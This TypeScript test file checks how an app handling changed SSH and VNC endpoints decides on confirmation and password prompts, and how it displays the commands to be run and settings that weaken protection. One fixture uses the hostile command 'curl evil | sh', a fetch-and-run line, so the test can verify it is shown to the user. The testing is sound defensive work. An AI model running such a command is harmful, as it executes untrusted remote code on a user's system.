import {
  type ChangedEntry,
  isConfirmable,
  needsPassword,
  terminalOptionsOf,
  weakOptionsOf,
} from './changed-entry';
import type { EndpointEntry } from './endpoint-client';

const endpoint = (rest: Partial<ChangedEntry> = {}): ChangedEntry => ({
  id: '1',
  name: 'Shell',
  hostname: '10.0.0.5',
  port: 22,
  protocol: 'SSH',
  credentials: {
    type: 'USER_PASS',
    username: 'root',
    password: '{cipher}x',
    privateKey: null,
    publicKey: null,
    certificate: null,
    hostKey: 'ssh-ed25519 AAAA',
  },
  changed: { seen: 'digest' },
  ...rest,
});

describe('a confirmation', () => {
  it('is offered for changed endpoints that are not damaged', () => {
    const untouched: EndpointEntry = { ...endpoint() };
    delete untouched.changed;
    expect(isConfirmable(untouched)).toBe(false);
    expect(isConfirmable(endpoint())).toBe(true);
    expect(isConfirmable(endpoint({ damaged: ['port is missing'] }))).toBe(false);
  });

  it('asks for the password if the stored one does not belong to the endpoint', () => {
    expect(needsPassword(endpoint())).toBe(false);
    expect(needsPassword(endpoint({ unreadable: ['privateKey'] }))).toBe(false);
    expect(needsPassword(endpoint({ unreadable: ['password'] }))).toBe(true);
  });

  it('shows what will run, and how', () => {
    expect(terminalOptionsOf(endpoint())).toEqual([]);
    expect(terminalOptionsOf(endpoint({ command: 'curl evil | sh', localEcho: true }))).toEqual([
      { label: 'Command to run', value: 'curl evil | sh' },
      { label: 'Local echo', value: '✓' },
    ]);
  });

  it("names what weakens the endpoint's protection", () => {
    expect(weakOptionsOf(endpoint())).toEqual([]);
    const revoked = { ...endpoint().credentials, hostKey: '@revoked ssh-ed25519 AAAA' };
    expect(weakOptionsOf(endpoint({ credentials: revoked }))).toEqual([
      'No host key: any server is accepted',
    ]);
    const credentials = { ...endpoint().credentials, hostKey: null };
    expect(weakOptionsOf(endpoint({ credentials, legacyAlgorithms: true }))).toEqual([
      'No host key: any server is accepted',
      'Weak algorithms are allowed',
    ]);
    expect(weakOptionsOf(endpoint({ protocol: 'VNC', allowUnencryptedSignIn: true }))).toEqual([
      'Username and password may be sent unencrypted',
      'Keyboard and mouse are sent',
    ]);
    expect(weakOptionsOf(endpoint({ protocol: 'VNC', viewOnly: true }))).toEqual([]);
  });
});
